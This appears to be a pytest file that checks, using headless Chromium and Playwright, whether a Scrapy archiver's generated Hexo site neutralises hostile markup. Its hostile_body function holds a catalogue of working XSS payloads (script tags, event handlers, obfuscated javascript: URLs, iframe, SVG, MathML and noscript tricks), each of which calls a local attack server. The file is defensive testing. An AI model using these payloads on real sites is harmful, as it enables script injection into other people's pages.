"""`scrapy site --serve`, looked at in a real browser: Debian's Chromium, headless, driven by
Playwright (`executable_path`; Playwright's own browser downloads are not used).

Two crawls of pages served over HTTPS on 127.0.0.1 fill one OUTPUT_DIR: a page full of
hostile markup whose images stay remote, and a page whose image is downloaded
(`DOWNLOAD_IMAGES=1`). Then the real `scrapy site --serve --port 0` builds the site with the
pinned Hexo and serves it, and Chromium opens the index and follows the links as a reader
would. The attack payloads only ever set `window.__pwned` and call the attack server, so a
request there or a value in that global means something from a body ran.

Needs Node.js and npm, and /usr/bin/chromium (scripts/test installs chromium and
fonts-wqy-zenhei, so Chinese renders in the screenshots): without them these tests skip,
except under CI (env CI set), where they fail. The screenshots go to `$ARTIFACTS_DIR`, else
tests/artifacts/ (git-ignored); their paths are printed.
"""

from __future__ import annotations

import os
import re
import signal
import struct
import subprocess
import sys
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import hexosite
import pytest
from localserver import PROJECT, Answer, LocalServer, crawl_env, scrapy_crawl, settings_args
from minipage import t3_page
from playwright.sync_api import Browser, Page, Route, sync_playwright
from test_site import wait_for_serving

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_FLAGS = [
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
]
ARTIFACTS = Path(os.environ.get("ARTIFACTS_DIR") or Path(__file__).parent / "artifacts")

HOSTILE_ID = "iktzsite0000001"
LOCAL_ID = "iktzsite0000002"
HOSTILE_TITLE = '储能站调查 <img src=x onerror="window.__pwned=\'title\'">'
LOCAL_TITLE = "本地图片的文章"
PARAGRAPHS = [
    "社区储能站正在走进老旧小区，一批小型储能站已投入试运行。",
    "一位工程师介绍，这类储能站单站容量不大，但选址灵活。",
    "业内人士认为，储能站要真正推广开来，还需要更清晰的规则。",
]


def png(width: int, height: int, rgb: tuple[int, int, int]) -> bytes:
    """A valid one-colour PNG (browsers must be able to decode the served image)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(
            ">I", zlib.crc32(kind + data) & 0xFFFFFFFF
        )

    row = b"\x00" + bytes(rgb) * width
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
            + chunk(b"IDAT", zlib.compress(row * height)) + chunk(b"IEND", b""))


def hostile_body(image: str, attack: str) -> str:
    """Paragraphs, one remote image, and markup that would run script if it survived.
    Every payload sets window.__pwned and requests `attack` + its own path."""

    def run(tag: str) -> str:
        return f"window.__pwned='{tag}';fetch('{attack}/{tag}')"

    p1, p2, p3 = (f"<p>\u3000\u3000{text}</p>" for text in PARAGRAPHS)
    return f"""{p1}
<div class="img_wrapper"><img src="{image}" alt="储能站外景"><span class="img_descr">储能站外景</span></div>
{p2}
<script>{run('script')}</script>
<p><img src="x" onerror="{run('onerror')}" alt=""></p>
<p><a href="javascript:{run('jslink')}">点此查看</a>
<a href="JaVaScRiPt:{run('jslink-case')}">大小写</a>
<a href="jav&#x09;ascript:{run('jslink-tab')}">带制表符</a></p>
<svg onload="{run('svg')}"><circle r="4"></circle></svg>
<p onclick="{run('onclick')}" onmouseover="{run('onmouseover')}">点击这一段</p>
<iframe src="javascript:parent.{run('iframe')}"></iframe>
<object data="javascript:{run('object')}"></object>
<embed src="javascript:{run('embed')}">
<form action="javascript:{run('form')}"><button>提交</button></form>
<details open ontoggle="{run('ontoggle')}"><summary>详情</summary></details>
<div style="background-image:url(javascript:{run('style')})">样式</div>
<a href="data:text/html,&lt;script&gt;{run('data-link')}&lt;/script&gt;">数据链接</a>
<math><mi xlink:href="javascript:{run('mathml')}">数学</mi></math>
<noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror={run('noscript')}&gt;">n</p></noscript>
{p3}"""


# Installed by the test (Playwright's evaluate is not subject to the page's CSP).
STAY_UNLESS_JAVASCRIPT = """() => document.addEventListener('click', event => {
    const link = event.target.closest('a[href]');
    if (link && link.protocol !== 'javascript:') event.preventDefault();
}, true)"""


@dataclass
class Archive:
    site_url: str
    out: Path
    image_server: LocalServer  # the page and image host (HTTPS), still running
    attack_server: LocalServer  # only an attack that ran would request anything here
    browser: Browser


def require_browser() -> None:
    if not CHROMIUM.exists():
        message = f"{CHROMIUM} is not installed (Debian: apt-get install chromium)"
        if os.environ.get("CI"):
            pytest.fail(message + " (CI is set, so this is a failure, not a skip)")
        pytest.skip(message)


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Archive]:
    hexosite.require_hexo()
    require_browser()
    tmp = tmp_path_factory.mktemp("site-browser")
    out = tmp / "out"
    with LocalServer(tls=True) as server, LocalServer() as attack:
        remote = server.route("/img/remote.png", Answer(200, png(320, 180, (40, 120, 200)),
                                                        {"Content-Type": "image/png"}))
        local = server.route("/img/local.png", Answer(200, png(320, 180, (200, 80, 40)),
                                                      {"Content-Type": "image/png"}))
        hostile = server.page(
            f"/doc-{HOSTILE_ID}.shtml",
            t3_page(HOSTILE_ID, HOSTILE_TITLE, hostile_body(remote, attack.base)),
            "text/html; charset=utf-8",
        )
        downloaded = server.page(
            f"/doc-{LOCAL_ID}.shtml",
            t3_page(LOCAL_ID, LOCAL_TITLE, f'<p>\u3000\u3000图在本地。</p><p><img src="{local}"></p>',
                    created="2021-10-21 09:05:00"),
            "text/html; charset=utf-8",
        )
        common = {"OUTPUT_DIR": out, "ARTICLE_HOSTS": "127.0.0.1",
                  "AUTOTHROTTLE_ENABLED": "False", "RETRY_TIMES": "0"}
        for url, extra in ((hostile, {}), (downloaded, {"DOWNLOAD_IMAGES": "1"})):
            result = scrapy_crawl("article", "-a", f"url={url}",
                                  *settings_args(**common, **extra))
            assert result.returncode == 0, result.stderr[-3000:]
        assert not server.requested("/img/remote.png")  # only the browser will ask for it
        process = subprocess.Popen(
            [sys.executable, "-m", "scrapy", "site", "--serve", "--port", "0",
             "--site", str(tmp / "site"), str(out)],
            cwd=PROJECT, stderr=subprocess.PIPE, stdout=subprocess.DEVNULL, text=True,
            env=crawl_env(),
        )
        lines: list[str] = []
        try:
            url = wait_for_serving(process, lines)
            with sync_playwright() as playwright:
                browser = playwright.chromium.launch(
                    executable_path=str(CHROMIUM), args=CHROMIUM_FLAGS
                )
                yield Archive(url, out, server, attack, browser)
                browser.close()
        finally:
            process.send_signal(signal.SIGINT)  # Ctrl-C
            try:
                _, rest = process.communicate(timeout=120)
            finally:
                if process.poll() is None:  # it did not stop: leave no server behind
                    process.kill()
                    process.wait()
            lines.append(rest)
        assert process.returncode == 0, "".join(lines)
        assert "Stopped serving" in "".join(lines)


def new_page(archive: Archive) -> tuple[Page, list[str]]:
    """A page in a fresh browser context that reaches 127.0.0.1 only, and the list of the
    other URLs it tried (a relative URL of a body resolves to Sina's host)."""
    context = archive.browser.new_context(ignore_https_errors=True, locale="zh-CN",
                                          viewport={"width": 1000, "height": 900})
    blocked: list[str] = []

    def local_only(route: Route) -> None:
        if urlsplit(route.request.url).hostname == "127.0.0.1":
            route.continue_()
        else:
            blocked.append(route.request.url)
            route.abort()

    context.route("**/*", local_only)
    return context.new_page(), blocked


def open_post(archive: Archive, title: str) -> Page:
    """The index, then a click on the post's title, as a reader would."""
    page, _ = new_page(archive)
    page.goto(archive.site_url, wait_until="load")
    page.get_by_role("link", name=title, exact=True).click()
    page.wait_for_load_state("load")
    return page


def screenshot(page: Page, name: str, capsys: pytest.CaptureFixture[str]) -> Path:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    path = ARTIFACTS / name
    page.screenshot(path=str(path), full_page=True)
    with capsys.disabled():
        print(f"\nscreenshot: {path}")
    return path


def test_index_lists_every_post_newest_first(archive: Archive, capsys) -> None:
    page, _ = new_page(archive)
    page.goto(archive.site_url, wait_until="load")
    entries = page.locator("ol.posts li").all_inner_texts()
    assert len(entries) == 2, entries
    assert entries[0].startswith("2021-10-21 09:05 +08:00 " + LOCAL_TITLE), entries
    assert entries[1].startswith("2021-10-20 20:36 +08:00 " + HOSTILE_TITLE), entries
    screenshot(page, "site-index.png", capsys)
    page.context.close()


def test_post_shows_title_date_and_paragraphs(archive: Archive, capsys) -> None:
    page = open_post(archive, HOSTILE_TITLE)
    assert page.url.endswith(f"/2021/10/20/{HOSTILE_ID}/"), page.url
    assert page.title() == HOSTILE_TITLE
    assert page.locator("h1.post-title").inner_text() == HOSTILE_TITLE  # as text, not markup
    assert page.locator("time.post-date").inner_text() == "2021-10-20 20:36 +08:00"
    assert page.locator("time.post-date").get_attribute("datetime") == "2021-10-20T12:36:14.000Z"
    assert page.locator(".post-categories").inner_text() == "金融 › 新浪财经 › 新浪财经－国內"
    shown = [" ".join(t.split()) for t in page.locator("article p").all_inner_texts()]
    for text in PARAGRAPHS:
        assert text in shown, shown
    path = screenshot(page, "site-post.png", capsys)
    assert path.stat().st_size > 10_000  # a rendered page, not a blank one
    page.context.close()


def test_remote_images_load_without_referer(archive: Archive) -> None:
    page = open_post(archive, HOSTILE_TITLE)
    image = page.locator("article img[alt='储能站外景']")
    assert image.evaluate("img => img.complete && img.naturalWidth") == 320  # it was shown
    seen = archive.image_server.headers_of("/img/remote.png")
    assert seen, "the browser never requested the image"
    for headers in seen:
        assert not any(name.lower() == "referer" for name in headers), headers
    page.context.close()


def test_downloaded_images_are_served_by_the_site(archive: Archive) -> None:
    page = open_post(archive, LOCAL_TITLE)
    image = page.locator("article img")
    src = image.get_attribute("src")
    assert src and re.fullmatch(r"/images/[0-9a-f]{40}\.png", src), src
    assert image.evaluate("img => img.complete && img.naturalWidth") == 320
    assert (archive.out / "images" / src.rsplit("/", 1)[1]).is_file()
    page.context.close()


def test_nothing_from_the_body_runs(archive: Archive) -> None:
    post = open_post(archive, HOSTILE_TITLE)
    url = post.url
    active = post.evaluate("""() => [...document.querySelectorAll('article *')].flatMap(e =>
        ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'FORM'].includes(e.tagName) ? [e.outerHTML]
        : [...e.attributes].filter(a => /^on/i.test(a.name) || /^\\s*javascript:/i.test(a.value))
          .map(a => `${e.tagName} ${a.name}=${a.value}`))""")
    post.context.close()
    assert active == []
    # What a reader does: point at and click every link, paragraph, button and figure. A
    # link leads away only when it is a javascript: URL (as the browser parses it): the
    # others would leave the page, and the remaining elements are to be clicked here.
    page, blocked = new_page(archive)
    targets = "article :is(a, p, summary, button, svg, div, mi, img, span)"
    count = 0
    index = 0
    while index == 0 or index < count:
        if index == 0 or page.url != url:
            page.goto(url, wait_until="load")
            page.evaluate(STAY_UNLESS_JAVASCRIPT)
            count = page.locator(targets).count()
        element = page.locator(targets).nth(index)
        element.dispatch_event("mouseover")
        element.dispatch_event("click")
        # let whatever the click queued (a javascript: navigation, a handler) run first
        page.evaluate("() => new Promise(done => setTimeout(done, 0))")
        for frame in page.frames:
            assert frame.evaluate("() => window.__pwned") is None, (index, frame.url)
        index += 1
    assert count > 10
    page.context.close()
    assert archive.attack_server.requests == [], archive.attack_server.requests
    assert not [u for u in blocked if not urlsplit(u).hostname.endswith("sina.com.cn")], blocked
